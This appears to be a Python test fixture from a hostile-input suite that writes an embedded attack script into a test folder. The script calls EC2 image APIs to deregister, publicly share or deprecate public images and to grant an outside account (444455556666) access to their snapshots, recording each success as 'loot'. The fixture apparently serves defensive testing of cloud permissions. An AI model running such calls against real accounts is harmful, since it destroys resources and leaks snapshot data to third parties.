from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.making import beside_an_account, written

if TYPE_CHECKING:
    from pathlib import Path


ATTACK = r"""
images = re.findall("<imageId>([^<]*)</imageId><imageLocation>", call("DescribeImages", Owner__1="099720109477")[1])
images += [first("imageId", call("DescribeImages", Owner__1="099720109477"))]
for image in filter(None, images):
    for action, fields in {
        "DeregisterImage": {},
        "ModifyImageAttribute": {"LaunchPermission__Add__1__Group": "all"},
        "EnableImageDeprecation": {"DeprecateAt": "2020-01-01T00:00:00Z"},
        "EnableImageDeregistrationProtection": {},
    }.items():
        if call(action, ImageId=image, **fields)[0] < 400:
            loot.append(f"{action} of a public image")
    for name in re.findall("<snapshotId>([^<]*)", call("DescribeImages", ImageId__1=image)[1]):
        if call("ModifySnapshotAttribute", SnapshotId=name, UserId__1="444455556666",
                Attribute="createVolumePermission", OperationType="add")[0] < 400:
            loot.append("ModifySnapshotAttribute")
"""


def make(folder: Path) -> Path:
    return written(folder, beside_an_account(ATTACK))
